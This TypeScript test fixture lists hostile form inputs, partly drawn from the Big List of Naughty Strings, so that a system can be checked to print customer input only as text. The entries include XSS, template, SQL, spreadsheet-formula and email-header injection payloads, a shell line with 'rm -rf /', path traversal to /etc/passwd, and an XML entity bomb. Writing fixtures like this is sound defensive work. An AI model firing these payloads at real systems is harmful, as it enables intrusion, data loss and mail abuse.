/**
 * What strangers write into forms, and what it tries to do. Each has to end as text wherever it is printed. Several are
 * taken from, or made after, the Big List of Naughty Strings (github.com/minimaxir/big-list-of-naughty-strings), MIT
 * License, Copyright (c) 2015-2020 Max Woolf; permission is granted there to use, copy and modify it, without warranty.
 */

/** One of each kind, tried in every letter and page. */
export const attacks: Readonly<Record<string, string>> = {
  markup: '<b onclick="alert(1)">x</b><img src=x onerror=alert(1)>',
  script: '</script></title></style><script>alert(1)</script>',
  template: '{{x.value}}{{{x}}}{{> layout}}{{constructor.constructor}}',
  placeholder: '{count} {name} **bold** $& $1',
  url: 'click https://evil.example/login or www.evil.example now',
  javascript: 'javascript:alert(1)//',
  header: 'x\r\nBcc: victim@example.com\r\n\r\nbody',
  direction: 'abc\u202Egnp.exe\u2066 \u0000\u0007 d\u200Be',
  quotes: '" onmouseover="alert(1)" \' `',
  comment: '--><!--[if mso]><h1>x</h1><![endif]--> ]]>',
  long: 'Ä'.repeat(10_000),
  surrogates: '\uD800 \uDC00 💥'.repeat(30),
};

/** More of the same, tried where the customer is named. */
export const naughty: Readonly<Record<string, string>> = {
  'a formula': '=HYPERLINK("https://evil.example","x")',
  'a command': "=cmd|' /C calc'!A0",
  'a formula behind a plus': '+1+cmd|x',
  'a formula behind a minus': '-2+3+cmd|x',
  'a function behind an at': '@SUM(1+1)',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a line end': '\r=1+1',
  'a full-width formula': '＝1+1',
  'a formula in quotes': '"=1+1"',
  'no text': '   ',
  'words of machines': 'undefined null NULL None true NaN [object Object]',
  'names of members': '__proto__ constructor hasOwnProperty toString',
  numbers: '0x0 1e1000 -1 ٠١٢ ½ 1/0 Infinity 9007199254740993',
  'signs of SQL': "1'; DROP TABLE leads; -- ' OR '1'='1",
  'a shell': '$(touch /tmp/x) `id` ; rm -rf / | cat',
  'a path': '../../../../etc/passwd%00.png C:\\con\\nul',
  'an entity bomb': '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
  entities: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;',
  'an attribute': 'x" autofocus onfocus="alert(1)" y="',
  'a style': '</style><style>*{display:none}</style> expression(alert(1)) url(//evil.example)',
  'a vector graphic': '<svg/onload=alert(1)><svg><script>1</script></svg>',
  'a data address': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'an old script': 'vbscript:msgbox(1) JaVaScRiPt:alert(1) java\u0000script:x',
  'a form': '<form action="https://evil.example"><input name=nonce><button>Go',
  'an unclosed tag': '<a href="https://evil.example" x=\'',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one of the things people try
  'a comment of a template': '{{!-- --}}{{#each this}}x{{/each}} <%= 7*7 %> ${7*7} #{7*7}',
  'a card of Outlook': '{{body.value}} **x** [x](https://evil.example) _x_ # x',
  'a vCard inside': 'x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Mallory',
  'an entry inside': 'x\nEND:VEVENT\nBEGIN:VEVENT\nATTENDEE:mailto:v@evil.example',
  'separators of cards': 'a;b,c\\n\\;d:e"f^g',
  'a folded header': 'x\r\n Bcc: v@evil.example\n\tX: y',
  'a bare line end': 'x\nSubject: other\nContent-Type: text/html',
  'an encoded word': '=?utf-8?Q?=0D=0ABcc:_v@evil.example?= =?utf-8?B?DQpYOiB5?=',
  'an address list': 'Eve <eve@evil.example>, "x" <y@z.example>; group: a@b.example;',
  'an address with more': 'a@b.example?bcc=v@evil.example&body=x%0D%0ABcc:',
  'a lone dot': 'x\r\n.\r\nMAIL FROM:<v@evil.example>',
  'a reply marker': '-- \nOn Mon, Anna wrote:\n> YES\n________________',
  'words of a reply': 'YES\nWON 12000\nSTOP',
  'direction marks': '\u202E\u202Dabc\u2066\u2067\u2068\u2069\u200E\u200F\u061Cdef',
  'Arabic and Hebrew': 'مرحبا بالعالم שלום עולם (abc) 123',
  'spaces of all kinds': 'a\u00A0b\u1680c\u2003d\u2028e\u2029f\u202Fg\u205Fh\u3000i\uFEFFj',
  'marks without end':
    'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0335\u0321\u0333l\u0334\u0321go',
  'two bytes and more': '田中さんにあげて下さい パーティーへ行かないか 社會科學院語學研究所 찦차를 타고',
  emoji: '👩‍👩‍👧‍👦 🏳️‍🌈 ✋🏿 🇩🇪 ❤️‍🔥 👨🏿‍🚀 #️⃣',
  'letters upside down': '˙ɐnbᴉlɐ ɐuƃɐɯ ǝɹolop ʇǝ ǝɹoqɐl ʇn',
  'letters from elsewhere': 'раураl ⒯⒣⒠ 𝕢𝕦𝕚𝕔𝕜 𝓫𝓻𝓸𝔀𝓷 𝖋𝖔𝖝 ﷽',
  'a capital that grows': 'ß ŉ ǰ ΐ İ ı ſ Ω K Å ﬁ ﬀ',
  'control characters': '\u0001\u0002\u0003\u0004\u001B[31mred\u001B[0m\u007F\u0080\u0085\u009F',
  'private and unassigned': '\uE000bold\uE000 \uE001 \uF8FF \uFFFE \uFFFF \u{10FFFF}',
  'soft hyphens': 'co\u00ADop\u00ADer\u00ADa\u00ADtion Ö\u200Bf\u200Ce\u200Dn',
  'a terminal title': '\u001B]0;owned\u0007 \u009B31m',
  'a word without end': 'W'.repeat(400),
  'a line without end': 'word '.repeat(100),
  'lines without end': 'x\n'.repeat(300),
  'ordinary trouble': 'O\'Brien & Söhne GmbH <Ofenbau> "König" 100 % ; , \\ / # ?',
};

export const everyString: Readonly<Record<string, string>> = { ...attacks, ...naughty };
